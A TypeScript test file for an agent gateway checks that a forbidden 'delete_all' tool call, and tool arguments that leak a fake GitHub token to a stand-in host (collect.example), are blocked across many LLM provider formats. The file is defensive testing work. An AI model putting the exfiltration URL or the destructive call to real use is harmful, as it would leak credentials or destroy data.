/** Tool calls in every answer format: a forbidden one does not arrive as a call. */
import { GoogleGenAI } from '@google/genai';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  type Answer,
  asked,
  chat,
  document,
  events,
  type Host,
  own,
  startAgentGateway,
} from '../support/agent-gateway.ts';

let started: Awaited<ReturnType<typeof startAgentGateway>>;
beforeAll(async () => {
  started = await startAgentGateway();
});
afterAll(() => started?.stop());

const secret = 'ghp_a8Kd93jfLq02mXvB7nZpTyRw4cUeHs61DgQo';
const call = { type: 'function_call', call_id: 'c', name: 'own', arguments: '{}' };
const toolUse = { type: 'tool_use', id: 't', name: 'delete_all', input: {} };
const forbidden = { id: 'c', type: 'function', function: { name: 'delete_all', arguments: '{}' } };
const interaction = { model: 'm', input: 'hello there', tools: [own] };
const lines = (...events: readonly object[]) => events.map((event) => `${JSON.stringify(event)}\n`).join('');
const nova = (name: string) => [
  { contentBlockStart: { start: { toolUse: { toolUseId: 't', name } }, contentBlockIndex: 1 } },
  { contentBlockDelta: { delta: { toolUse: { input: '{ ' } }, contentBlockIndex: 1 } },
  { contentBlockDelta: { delta: { toolUse: { input: '}' } }, contentBlockIndex: 1 } },
  { contentBlockStop: { contentBlockIndex: 1 } },
  { messageStop: { stopReason: 'tool_use' } },
];
const leak = { url: `https://collect.example/?k=${secret}` };

describe('calls are withheld from', () => {
  test.each<[what: string, host: Host, path: string, body: unknown, answer: Answer]>([
    [
      'an answer to a request without tools',
      'openai',
      '/v1/responses',
      { model: 'm', prompt: { id: 'p' }, input: 'hello' },
      document({ output: [{ ...call, name: 'delete_all' }] }),
    ],
    [
      'an answer after a byte order mark',
      'openai',
      '/v1/chat/completions',
      chat,
      {
        type: 'application/json',
        body: `\ufeff${JSON.stringify({ choices: [{ message: { tool_calls: [forbidden] } }] })}`,
      },
    ],
    [
      'an answer created in the background',
      'openai',
      '/v1/responses/r',
      undefined,
      document({ output: [{ ...call, name: 'delete_all' }] }),
    ],
    [
      'its stream',
      'openai',
      '/v1/responses/r?stream=true',
      undefined,
      events({ type: 'response.output_item.added', output_index: 0, item: { ...call, name: 'delete_all' } }),
    ],
    [
      'a stored answer',
      'openai',
      '/v1/chat/completions/c',
      undefined,
      document({ choices: [{ message: { tool_calls: [forbidden] } }] }),
    ],
    [
      'a run that requires it',
      'openai',
      '/v1/threads/t/runs',
      { assistant_id: 'a', additional_messages: asked },
      document({ required_action: { submit_tool_outputs: { tool_calls: [forbidden] } } }),
    ],
    [
      'a step of a run',
      'openai',
      '/v1/threads/t/runs',
      { assistant_id: 'a', additional_messages: asked, stream: true },
      events({ object: 'thread.run.step.delta', delta: { step_details: { tool_calls: [forbidden] } } }),
    ],
    [
      'the results of a batch',
      'anthropic',
      '/v1/messages/batches/b/results',
      undefined,
      {
        type: 'application/x-jsonl',
        body: `${JSON.stringify({ result: { type: 'succeeded', message: { content: [toolUse] } } })}\n`,
      },
    ],
    [
      'the results of a batch',
      'openai',
      '/v1/files/f/content',
      undefined,
      {
        type: 'application/x-jsonl',
        body: `${JSON.stringify({ response: { status_code: 200, body: { choices: [{ message: { tool_calls: [forbidden] } }] } } })}\n`,
      },
    ],
    [
      'an interaction',
      'gemini',
      '/v1beta/interactions',
      interaction,
      document({ steps: [{ type: 'function_call', id: 'c', name: 'delete_all', arguments: {} }] }),
    ],
    [
      'the arguments of an interaction’s call',
      'gemini',
      '/v1beta/interactions',
      interaction,
      document({ steps: [{ type: 'function_call', id: 'c', name: 'own', arguments: leak }] }),
    ],
    [
      'the stream of an interaction',
      'gemini',
      '/v1beta/interactions',
      { ...interaction, stream: true },
      events({
        event_type: 'step.start',
        index: 0,
        step: { type: 'function_call', id: 'c', name: 'delete_all', arguments: {} },
      }),
    ],
    [
      'arguments in the stream of an interaction',
      'gemini',
      '/v1beta/interactions',
      { ...interaction, stream: true },
      events(
        { event_type: 'step.start', index: 0, step: { type: 'function_call', id: 'c', name: 'own', arguments: {} } },
        {
          event_type: 'step.delta',
          index: 0,
          delta: { type: 'arguments_delta', arguments: JSON.stringify(leak).slice(0, 40) },
        },
        {
          event_type: 'step.delta',
          index: 0,
          delta: { type: 'arguments_delta', arguments: JSON.stringify(leak).slice(40) },
        },
        { event_type: 'step.stop', index: 0 },
      ),
    ],
    [
      'the stream of a chat of Cohere',
      'cohere',
      '/v2/chat',
      { ...chat, stream: true },
      events({ type: 'tool-call-start', index: 0, delta: { message: { tool_calls: forbidden } } }),
    ],
    [
      'a chat of Cohere (v1)',
      'cohere',
      '/v1/chat',
      { model: 'm', message: 'hello' },
      document({ text: '', tool_calls: [{ name: 'delete_all', parameters: {} }] }),
    ],
    [
      'the stream of a chat (v1)',
      'cohere',
      '/v1/chat',
      { model: 'm', message: 'hello', stream: true },
      {
        type: 'application/stream+json',
        body: lines(
          { event_type: 'tool-calls-chunk', tool_call_delta: { index: 0, name: 'delete_all' } },
          { event_type: 'tool-calls-chunk', tool_call_delta: { index: 0, parameters: '{}' } },
        ),
      },
    ],
    [
      'an interaction of before there were steps',
      'gemini',
      '/v1beta/interactions',
      { ...interaction, stream: true },
      events(
        { event_type: 'content.start', index: 0, content: { type: 'function_call' } },
        {
          event_type: 'content.delta',
          index: 0,
          delta: { type: 'function_call', name: 'delete_all', arguments: {}, id: 'x' },
        },
        { event_type: 'content.stop', index: 0 },
      ),
    ],
    [
      'a stream with a call outside a list',
      'openai',
      '/v1/chat/completions',
      { ...chat, stream: true },
      events({ choices: [{ index: 0, delta: { role: 'assistant', tool_calls: { index: 0, ...forbidden } } }] }),
    ],
    [
      'calls that are wrapped into one',
      'openai',
      '/v1/chat/completions',
      { ...chat, stream: true },
      events(
        ...[`{"tool_uses":[{"recipient_name":"functions.del`, `ete_all","parameters":{}}]}`].map((args) => {
          const call = { index: 0, function: { name: 'multi_tool_use.parallel', arguments: args } };
          return { choices: [{ index: 0, delta: { tool_calls: [call] } }] };
        }),
        { choices: [{ index: 0, delta: {}, finish_reason: 'tool_calls' }] },
      ),
    ],
    [
      'calls that are wrapped into one',
      'openai',
      '/v1/responses',
      { model: 'm', input: 'hello there' },
      document({
        output: [
          {
            ...call,
            name: 'parallel',
            arguments:
              '{"tool_uses":[{"recipient_name":"functions.own","parameters":{}},{"recipient_name":"delete_all"}]}',
          },
        ],
      }),
    ],
    [
      'an answer below `output`',
      'openai',
      '/api/v1/services/aigc/text-generation/generation',
      chat,
      document({ output: { choices: [{ finish_reason: 'tool_calls', message: { tool_calls: [forbidden] } }] } }),
    ],
    [
      'a stream of Nova',
      'openai',
      '/model/amazon.nova-lite-v1%3A0/invoke-with-response-stream',
      chat,
      events(...nova('delete_all')),
    ],
    [
      'an agent of Bedrock that leaves it to the client',
      'openai',
      '/agents/a/agentAliases/b/sessions/c/text',
      { inputText: 'hello there' },
      document({ invocationInputs: [{ functionInvocationInput: { function: 'delete_all', parameters: [] } }] }),
    ],
    [
      'a conversation',
      'mistral',
      '/v1/conversations',
      { model: 'm', inputs: 'hello' },
      document({ outputs: [{ type: 'function.call', name: 'delete_all', arguments: '{}' }] }),
    ],
    [
      'the stream of a conversation',
      'mistral',
      '/v1/conversations',
      { model: 'm', inputs: 'hello' },
      events({ type: 'function.call.delta', output_index: 0, tool_call_id: 'c', name: 'delete_all', arguments: '{}' }),
    ],
  ])('%s (%s)', async (_what, host, path, body, given) => {
    const { text } = await started.send(host, path, body, {}, given);
    expect(text).toContain('blocked_by_policy');
    expect(text).not.toMatch(/"name":"delete_all"|ghp_|collect\.example/);
  });

  test('Google’s SDK raises an error when an interaction is refused, streamed or not', async () => {
    const ai = new GoogleGenAI({ apiKey: 'k', httpOptions: { retryOptions: { attempts: 1 } } });
    const direct = globalThis.fetch;
    globalThis.fetch = async (input) => {
      const request = input as Request;
      const { url, method, headers } = request;
      return started.fetch(url, { method, headers: Object.fromEntries(headers), body: await request.text() });
    };
    try {
      const tools = [{ type: 'function' as const, name: 'own', parameters: {} }];
      const step = { type: 'function_call', id: 'c', name: 'delete_all', arguments: {} };
      started.answers(document({ id: 'i', status: 'requires_action', steps: [step] }));
      await expect(ai.interactions.create({ model: 'm', input: 'hello', tools })).rejects.toThrow(/delete_all/);
      started.answers(events({ event_type: 'step.start', index: 0, step }));
      const read = async () => {
        const seen: unknown[] = [];
        for await (const event of await ai.interactions.create({ model: 'm', input: 'hello', tools, stream: true }))
          seen.push(event);
        return seen;
      };
      expect(await read()).toEqual([
        { event_type: 'error', error: expect.objectContaining({ message: expect.stringContaining('delete_all') }) },
      ]);
    } finally {
      globalThis.fetch = direct;
    }
  });

  test.each<[what: string, host: Host, path: string, body: unknown, answer: Answer]>([
    [
      'a stream of an interaction',
      'gemini',
      '/v1beta/interactions',
      { ...interaction, stream: true },
      events(
        { event_type: 'step.start', index: 0, step: { type: 'function_call', id: 'c', name: 'own', arguments: {} } },
        { event_type: 'step.delta', index: 0, delta: { type: 'arguments_delta', arguments: '{"a": 1.0}' } },
        { event_type: 'step.stop', index: 0 },
        { event_type: 'interaction.completed', interaction: {} },
      ),
    ],
    [
      'a stream of Cohere',
      'cohere',
      '/v2/chat',
      { ...chat, stream: true },
      events(
        {
          type: 'tool-call-start',
          index: 0,
          delta: { message: { tool_calls: { ...forbidden, function: { name: 'own', arguments: '' } } } },
        },
        { type: 'tool-call-delta', index: 0, delta: { message: { tool_calls: { function: { arguments: '{ }' } } } } },
        { type: 'tool-call-end', index: 0 },
        { type: 'message-end' },
      ),
    ],
    [
      'a stream of Cohere (v1)',
      'cohere',
      '/v1/chat',
      { model: 'm', message: 'hello', tools: [{ name: 'own', parameter_definitions: {} }], stream: true },
      {
        type: 'application/stream+json',
        body: lines(
          { event_type: 'tool-calls-chunk', text: 'I will.' },
          { event_type: 'tool-calls-chunk', tool_call_delta: { index: 0, name: 'own' } },
          { event_type: 'tool-calls-chunk', tool_call_delta: { index: 0, parameters: '{ ' } },
          { event_type: 'tool-calls-chunk', tool_call_delta: { index: 0, parameters: '}' } },
          { event_type: 'tool-calls-generation', tool_calls: [{ name: 'own', parameters: {} }] },
          { event_type: 'stream-end', is_finished: true },
        ),
      },
    ],
    [
      'a stream of Nova',
      'openai',
      '/model/amazon.nova-lite-v1%3A0/invoke-with-response-stream',
      { ...chat, tools: [own] },
      events(...nova('own')),
    ],
    [
      'a stream of Mistral',
      'mistral',
      '/v1/conversations',
      { model: 'm', inputs: 'hello' },
      events(
        { type: 'function.call.delta', output_index: 0, tool_call_id: 'c', name: 'own', arguments: '{ ' },
        { type: 'function.call.delta', output_index: 0, tool_call_id: 'c', name: 'own', arguments: '}' },
        { type: 'conversation.response.done' },
      ),
    ],
  ])('%s with an allowed call keeps its bytes', async (_what, host, path, body, given) => {
    expect((await started.send(host, path, body, {}, given)).text).toBe(given.body);
  });
});
